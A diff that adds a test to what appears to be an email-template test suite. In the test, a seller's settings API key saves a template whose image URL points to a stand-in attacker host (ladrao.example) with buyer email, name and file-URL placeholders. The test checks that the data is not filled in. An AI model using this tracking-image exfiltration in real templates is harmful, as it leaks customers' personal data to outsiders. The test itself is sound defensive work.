@@ -10,7 +10,9 @@ import { type App, startApp } from "#tests/support/app.ts";
 import { describeAnswer, formsOf } from "#tests/support/clients/page-forms.ts";
 import type { visitor } from "#tests/support/clients/visitor.ts";
 import { sql } from "#tests/support/database.ts";
+import { makeProduct, makeSale, makeSeller, markPaid } from "#tests/support/make.ts";
 import { routeTable } from "#tests/support/routes/route-table.ts";
+import { mailsWithTexts, opened, renderMails } from "#tests/support/rows/make-mail.ts";
 import { receiverAt } from "#tests/support/rows/make-webhook.ts";
 import { columnName } from "#tests/support/rows/schema-tables.ts";
 import { until } from "#tests/support/until.ts";
@@ -170,6 +172,32 @@ describe.each(Object.entries(DATA_EXITS))("%s", (name, exit) => {
       ).toBe(before);
     },
   );
+});
+
+test("a key for the settings sends no later buyer's data to the host of a picture in the purchase mail", async () => {
+  const seller = await makeSeller();
+  const key = await createApiKey(seller.id, { name: "Páginas", scopes: ["settings"] });
+  const picture = "https://ladrao.example/?e={customer_email}&n={customer_name}&u={product_file_url}";
+  const html_content = `<p>Oi, {customer_name}</p><a href="{product_file_url}">Abrir</a><img src="${picture}">`;
+  const saved = await app.fetch("/api/email/template", {
+    method: "POST",
+    headers: { Authorization: `Bearer ${key}` },
+    body: JSON.stringify({ html_content }),
+  });
+  expect([saved.status, ((await saved.json()) as { warning: string }).warning]).toEqual([
+    200,
+    expect.stringContaining("{customer_email}, {customer_name}, {product_file_url}"),
+  ]);
+  const customer = { customerName: "Bia Lima", customerEmail: `bia-${crypto.randomUUID()}@exemplo.com.br` };
+  const sale = await makeSale(await makeProduct(seller), customer);
+  await markPaid(sale.id);
+  await renderMails();
+  const [mail] = opened(
+    await sql`select body_sealed from ${mailsWithTexts()} where sale_id = ${sale.id} and kind = 'purchase'`,
+  );
+  expect(mail!.payload.html).toContain("<p>Oi, Bia Lima</p>");
+  expect(mail!.payload.html).toContain(`/thank-you/${sale.id}`);
+  expect(mail!.payload.html).toContain(`src="${picture}"`);
 });
 
 test("exports of many buyers' data are addresses of ours, and open nothing to anybody else", async () => {
